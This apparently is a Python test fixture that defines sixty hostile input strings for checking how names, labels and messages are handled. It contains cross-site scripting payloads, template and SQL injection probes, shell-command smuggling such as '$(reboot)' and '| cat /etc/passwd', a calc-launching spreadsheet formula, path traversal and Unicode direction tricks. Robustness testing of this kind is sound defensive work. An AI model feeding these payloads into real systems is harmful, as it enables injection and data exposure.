"""Sixty hostile strings for names, labels and messages.

Markup and scripts, template and format language, spreadsheet formulas, quotes, direction marks, invisible and control
characters, letters of every direction and height, and lengths that no layout expects.
"""

from __future__ import annotations

HOSTILE = (
    # Markup and scripts
    "</script><img src=x onerror=window.hacked=1>",
    "<script>window.hacked=1</script>",
    "<svg/onload=window.hacked=1>",
    '"><img src=x onerror=window.hacked=1>',
    "' onmouseover='window.hacked=1",
    "<iframe srcdoc='<script>hacked=1</script>'>",
    "<style>*{display:none}</style>",
    "<!--",
    "-->",
    "]]>",
    "<base href=//evil.example>",
    "<a href=javascript:hacked=1>x</a>",
    "<details open ontoggle=window.hacked=1>",
    "<math><mi//xlink:href='data:x,<script>hacked=1</script>'>",
    "&lt;b&gt;",
    "&#x3c;script&#x3e;",
    "javascript:window.hacked=1",
    "data:text/html,<script>hacked=1</script>",
    "<form action=//evil.example><button>x",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<plaintext>",
    "</textarea></title></style><img src=x onerror=window.hacked=1>",
    # Languages of templates, formats, shells, queries and sheets
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "#{7*7}",
    "%(name)s",
    "{0.__class__}",
    "%s%n%x",
    "$(reboot)",
    "`reboot`",
    "| cat /etc/passwd",
    "'; DROP TABLE x; --",
    '" OR ""="',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "../../etc/passwd",
    "CON",
    "null",
    "undefined",
    "__proto__",
    "constructor",
    "__class__",
    # Directions, invisible and control characters
    "abc\u202egnp.exe",
    "\u2066left\u2069\u2067right\u2069",
    "\u200f\u200eabc\u061c",
    "a\u200bb\u2060c\ufeff",
    "soft\u00adhyphen",
    "bell\x07 escape\x1b[31m",
    "next\u0085line\u2028sep\u2029",
    "tag\U000e0041\U000e0042",
    # Letters of every direction, width and height
    "שלום עולם",
    "مرحبا بالعالم",
    "漢字かな交じり文",
    "👩‍👩‍👧‍👦🏴‍☠️🇺🇳",
    "z̸̡̢̛̗͓a̷̧͉͎l̵̨̺g̶̡̛o̸̢",
    # Lengths
    "x" * 250,
    "wide " * 50,
)
assert len(HOSTILE) == len(set(HOSTILE)) == 60, len(HOSTILE)
